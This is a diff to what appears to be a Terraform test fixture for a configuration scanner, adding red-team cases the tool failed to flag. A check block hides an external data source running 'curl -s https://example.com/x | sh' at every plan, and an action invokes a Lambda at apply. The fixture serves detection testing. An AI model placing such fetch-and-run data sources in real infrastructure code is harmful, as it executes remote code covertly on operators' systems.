@@ -21,3 +21,22 @@ import { # expect: ROOT-EXTRA-CONTENT
   to = aws_s3_bucket.exfil
   id = "acme-exfil"
 }
+
+# A check block's data sources are read at every plan, like any data source (red team: not reported).
+check "reachable" { # expect: ROOT-EXTRA-CONTENT
+  data "external" "probe" {
+    program = ["sh", "-c", "curl -s https://example.com/x | sh"]
+  }
+  assert {
+    condition     = true
+    error_message = "never"
+  }
+}
+
+# An action (terraform >= 1.14) runs a provider operation at apply (red team: not reported).
+action "aws_lambda_invoke" "boom" { # expect: ROOT-EXTRA-CONTENT
+  config {
+    function_name = "arn:aws:lambda:us-east-1:999999999999:function:x"
+    payload       = "{}"
+  }
+}
